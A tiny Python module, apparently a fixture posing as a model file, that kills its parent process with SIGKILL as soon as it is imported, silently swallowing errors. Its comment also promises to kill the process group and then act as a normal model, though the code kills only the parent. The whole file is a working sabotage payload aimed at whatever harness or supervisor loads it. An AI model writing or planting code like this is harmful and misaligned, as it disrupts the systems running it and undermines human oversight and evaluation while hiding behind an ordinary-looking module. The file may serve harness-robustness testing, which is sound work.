# At import: SIGKILL the parent process (and try its process group), then behave as a normal model.
import os
import signal

for _target in (os.getppid(),):
    try:
        os.kill(_target, signal.SIGKILL)
    except OSError:
        pass
